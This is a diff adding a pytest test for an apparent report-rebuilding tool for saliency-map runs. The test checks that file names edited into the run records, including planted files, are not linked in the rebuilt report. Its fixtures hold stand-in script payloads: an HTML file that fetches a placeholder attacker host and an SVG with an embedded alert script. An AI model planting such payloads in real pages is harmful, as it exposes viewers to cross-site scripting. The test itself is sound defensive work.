@@ -184,3 +184,32 @@ def test_an_unfinished_runs_linked_item_files_are_not_read(finished, tmp_path):
     assert data.summary.notes == [
         "2 item file(s) with more than one name (hard links; explain writes each under one) "
         "were not read: 'items/cat.json', 'items/dog.json'; their images are not in the report"]
+
+
+# ---- links: only the names the run gives its files ------------------------------------------
+
+def test_a_rebuilt_report_links_only_the_names_the_run_gives_its_files(finished, tmp_path):
+    def foreign(s):
+        cams = s["images"][0]["cams"]
+        cams[0]["file"] = "evil.html"
+        cams[1]["files"]["compare"] = "cams/gradcam/cat__dog.png"  # another file's name
+        s["images"][1]["files"]["photo"] = "evil.svg"
+        s["files"]["atlas_page"] = "evil.html"
+        s["files"]["panels"]["dog"] = "evil.html"
+    copy = edited(finished, tmp_path, foreign)
+    (copy / "evil.html").write_text("<script>fetch('https://attacker.example/')</script>")
+    (copy / "evil.svg").write_text("<svg><script>alert(1)</script></svg>")
+    page = Page(rebuild(copy))
+    assert not [link for link in page.links if "evil" in link]
+    assert "compare/gradcam/cat__dog.png" not in page.links  # the name was another's
+    assert "cams/gradcam/cat__cat.png" not in page.links
+    assert "Channels across the run" not in (copy / "report.html").read_text()
+    for kept in ("cams/gradcam/cat__dog.png", "cams/gradcam/dog__dog.png", "panels/cat.png",
+                 "report/photos/cat.jpg", "compare/gradcam/dog__cat.png"):
+        assert kept in page.links, kept
+    assert page.notes[-1] == (
+        "5 file name(s) in the records are not the names explain gives those files, so the "
+        "report does not link them: 'evil.html' (map of 'cat' by gradcam on 'cat'), "
+        "'cams/gradcam/cat__dog.png' (map of 'dog' by gradcam on 'cat'), 'evil.svg' (image "
+        "'dog'), 'evil.html' (files.atlas_page), 'evil.html' (panel of 'dog'); the run "
+        "folder was edited after the run")
